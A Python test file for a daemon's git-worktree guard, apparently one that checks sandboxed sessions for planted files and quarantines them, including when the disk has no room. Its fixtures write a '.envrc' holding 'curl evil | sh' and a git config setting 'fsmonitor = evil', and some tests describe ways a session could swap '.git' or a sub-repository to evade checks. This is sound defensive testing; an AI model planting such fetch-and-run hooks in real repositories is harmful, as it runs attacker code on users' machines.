"""A session's end on a disk with no room for the move aside's longer names,
through the baselines' check (daemon/gitguard/noroom.py): what is made
unreadable instead is said once each, the worktree refused, and the check
of a restart with room moves it aside. The rename's "no room" is injected
at ``fs._rename`` (test_noroom.py says why)."""

from __future__ import annotations

import errno
import os
import shutil
import stat
import subprocess
from pathlib import Path
from typing import Any

import pytest

from dispatchd.daemon.gitguard import baselines, fs, layouts, noroom, redirects, snapshots
from dispatchd.policy import DEFAULT_PROTECTED
from tests.unit.gitrepo import git, make_repo

pytestmark = pytest.mark.process  # git makes the repository

MADE = "left in place, made unreadable (mode 000): no room to move it aside"


def _join(store: baselines.Baselines, sid: str, root: Path) -> None:
    layout = layouts.inspect_git(str(root), uid=os.getuid())
    store.join(sid, str(root), layout, snapshots.take(str(root), layout, keep=True),
               redirects.redirects_present(layout, str(root)), DEFAULT_PROTECTED,
               reach=(str(root), *layout.writable))


def _plant(repo: Path) -> None:
    (repo / ".envrc").write_text("curl evil | sh\n")
    (repo / ".git" / "config.worktree").write_text("[core]\n\tfsmonitor = evil\n")


def _no_room(monkeypatch: pytest.MonkeyPatch) -> None:
    def rename(src: Any, dst: Any, **kw: Any) -> None:
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
    monkeypatch.setattr(fs, "_rename", rename)


def test_an_end_with_no_room_makes_each_plant_unreadable_says_it_once_and_a_restart_moves_it(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(noroom, "_ballast", [])
    repo = make_repo(tmp_path / "r")
    git(repo, "config", "extensions.worktreeConfig", "true")  # the user's: git reads config.worktree
    store = baselines.Baselines(str(tmp_path / "state"))
    _join(store, "s", repo)
    _plant(repo)
    _no_room(monkeypatch)
    [said] = store.leave("s")
    envrc, config = str(repo / ".envrc"), str(repo / ".git" / "config.worktree")
    assert said.path == str(repo) and said.why.startswith(f"NOT checked whole: {config}: {MADE}")
    assert said.why.count(config) == 1 and f"{envrc}: {MADE}" in said.why  # each said once
    assert said.why.endswith("What could not be moved aside is still there, unreadable: look before you make it "
                             "readable again; dispatchd refuses sessions on it until a restart's check passes")
    for plant in (envrc, config):
        assert stat.S_IMODE(os.lstat(plant).st_mode) == 0
    with pytest.raises(baselines.WorktreeError, match="could not move aside"):
        _join(store, "t", repo)
    # git itself refuses the unreadable configuration, loudly, rather than run it.
    assert git_error(repo).endswith("fatal: unable to access '.git/config.worktree': Permission denied\n")
    monkeypatch.undo()  # room again; a restart's check moves them aside
    fresh = baselines.Baselines(str(tmp_path / "state"))
    done = fresh.recover()
    assert fresh.tainted == {} and not os.path.lexists(envrc) and not os.path.lexists(config)
    assert {p.path.split(fs.QUARANTINED)[0] for p in done} >= {envrc, config}


def git_error(repo: Path) -> str:
    import subprocess

    return subprocess.run(["git", "status"], cwd=repo, capture_output=True, text=True).stderr


def test_the_twin_with_room_moves_each_plant_aside_and_says_it_once(tmp_path: Path,
                                                                    monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(noroom, "_ballast", [])
    repo = make_repo(tmp_path / "r")
    store = baselines.Baselines(str(tmp_path / "state"))
    _join(store, "s", repo)
    _plant(repo)
    found = store.leave("s")
    moved = sorted(p.path.split(fs.QUARANTINED)[0] for p in found)
    assert moved == [str(repo / ".envrc"), str(repo / ".git" / "config.worktree")], found
    assert not any(p.why.startswith("NOT checked whole") for p in found)
    git(repo, "status")  # nothing in the way


def test_a_restart_that_still_finds_no_room_says_its_failures_within_the_bound(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A daemon's start whose check of a dead daemon's record still cannot
    move 300 plants: the worktree's refusal (and so every ``status``) names
    the first 20 and counts the rest, as an end's does; it ran to megabytes
    (past a reply's limit with enough plants, every ``status`` failing).
    The twin: the end's own failure, bounded the same way."""
    monkeypatch.setattr(noroom, "_ballast", [])
    repo = make_repo(tmp_path / "r")
    store = baselines.Baselines(str(tmp_path / "state"))
    _join(store, "s", repo)
    for i in range(300):
        (repo / f"plant{i}").mkdir()
        (repo / f"plant{i}" / ".envrc").write_text("curl evil | sh\n")
    _no_room(monkeypatch)
    [said] = store.leave("s")
    assert "; and 280 more that could not be done either. " in said.why and said.why.count("/.envrc: ") == 20
    fresh = baselines.Baselines(str(tmp_path / "state"))
    fresh.recover()
    [reason] = fresh.tainted.values()
    assert reason.endswith("; and 280 more that could not be done either") and reason.count("/.envrc: ") == 20


@pytest.mark.parametrize("meanwhile", ["cloned anew at its path", "left as it was"])
def test_a_start_checks_a_dead_daemon_s_record_only_against_the_same_repository(
        tmp_path: Path, meanwhile: str) -> None:
    """A daemon stopped with a session's plant in the worktree (its record
    kept); the user then removes the repository and makes a new one at the
    same path: the start drops that record, says so, and writes nothing of
    the old repository's into the new one (its branches and objects were
    written in, and the user's work there taken for a session's). The twin:
    the same repository, whose plant the start moves aside as always."""
    repo = make_repo(tmp_path / "r")
    store = baselines.Baselines(str(tmp_path / "state"))
    _join(store, "s", repo)
    (repo / ".envrc").write_text("curl evil | sh\n")
    git(repo, "branch", "old-only")
    os.close(next(iter(store._domains.values())).lock_fd)  # the daemon stopped: its lock gone with it
    if meanwhile == "cloned anew at its path":
        shutil.rmtree(repo)  # on ext4 the new root may well get the inode number freed: its generation differs
        repo = make_repo(tmp_path / "r")
        (repo / ".envrc").write_text("the user's own\n")
    fresh = baselines.Baselines(str(tmp_path / "state"))
    done = fresh.recover()
    assert fresh.tainted == {}
    if meanwhile == "cloned anew at its path":
        assert [(p.path, p.why) for p in done] == [(str(repo), (
            "another directory than at its baseline (removed, and made or cloned anew at its path): the baseline "
            "a daemon that stopped kept of it was dropped, and nothing of it written here"))]
        assert (repo / ".envrc").read_text() == "the user's own\n"
        assert "old-only" not in git(repo, "branch", "--list")
        assert os.listdir(tmp_path / "state" / "baselines") == [] or not any(
            n.endswith(".json") for n in os.listdir(tmp_path / "state" / "baselines"))
    else:
        assert not (repo / ".envrc").exists()
        assert any(p.path.startswith(f"{repo / '.envrc'}{fs.QUARANTINED}") for p in done), done


def test_a_session_that_swaps_git_for_a_copy_does_not_have_the_start_s_check_dropped(tmp_path: Path) -> None:
    """The worktree's root is what tells a repository cloned anew at its
    path: a session can swap ``.git`` for a copy of it (a new inode), and
    the start must still check, and move its plant aside."""
    repo = make_repo(tmp_path / "r")
    store = baselines.Baselines(str(tmp_path / "state"))
    _join(store, "s", repo)
    (repo / ".envrc").write_text("curl evil | sh\n")
    os.rename(repo / ".git", repo / ".git-was")
    subprocess.run(["cp", "-a", str(repo / ".git-was"), str(repo / ".git")], check=True)
    os.close(next(iter(store._domains.values())).lock_fd)
    done = baselines.Baselines(str(tmp_path / "state")).recover()
    assert not (repo / ".envrc").exists()
    assert not any("another directory than at its baseline" in p.why for p in done), done


def test_a_worktree_inside_another_session_s_is_checked_however_its_root_was_swapped(tmp_path: Path) -> None:
    """``out/sub``, a repository of its own inside the repository ``out``,
    has a session, then ``out`` one: the session on ``out`` can replace
    ``sub`` itself (``mv sub sub.o && cp -a sub.o sub``: a new root inode),
    plant in it, and have the daemon killed. The start still checks
    ``sub`` (a root whose parent a session of the domain could write is
    never taken for a re-clone), and moves the plant aside."""
    out = make_repo(tmp_path / "out")
    sub = make_repo(out / "sub")
    store = baselines.Baselines(str(tmp_path / "state"))
    _join(store, "s2", sub)
    _join(store, "s1", out)
    os.rename(sub, out / "sub.o")
    subprocess.run(["cp", "-a", str(out / "sub.o"), str(sub)], check=True)
    (sub / ".envrc").write_text("curl evil | sh\n")
    for domain in {id(d): d for d in store._domains.values()}.values():
        os.close(domain.lock_fd)
    done = baselines.Baselines(str(tmp_path / "state")).recover()
    assert not any("another directory than at its baseline" in p.why for p in done), done
    assert not (sub / ".envrc").exists()


def test_a_worktree_whose_parent_another_domain_s_session_could_write_is_checked_after_a_swap(
        tmp_path: Path) -> None:
    """Two unrelated worktrees ``r/a`` and ``r/b``; the session on ``b`` has
    a policy whose ``read_write`` covers ``r``: it can replace ``a`` whole
    (a new root inode), plant in it, and have the daemon killed. ``a``'s
    record is not its domain's only: the start asks every record's reach,
    checks ``a``, and moves the plant aside."""
    (tmp_path / "r").mkdir()
    a = make_repo(tmp_path / "r" / "a")
    b = make_repo(tmp_path / "r" / "b")
    store = baselines.Baselines(str(tmp_path / "state"))
    _join(store, "sa", a)
    layout = layouts.inspect_git(str(b), uid=os.getuid())
    store.join("sb", str(b), layout, snapshots.take(str(b), layout, keep=True),
               redirects.redirects_present(layout, str(b)), DEFAULT_PROTECTED,
               reach=(str(b), str(tmp_path / "r"), *layout.writable))
    os.rename(a, tmp_path / "r" / "a.o")
    subprocess.run(["cp", "-a", str(tmp_path / "r" / "a.o"), str(a)], check=True)
    (a / ".envrc").write_text("curl evil | sh\n")
    for domain in {id(d): d for d in store._domains.values()}.values():
        os.close(domain.lock_fd)
    done = baselines.Baselines(str(tmp_path / "state")).recover()
    assert not any("another directory than at its baseline" in p.why for p in done), done
    assert not (a / ".envrc").exists()
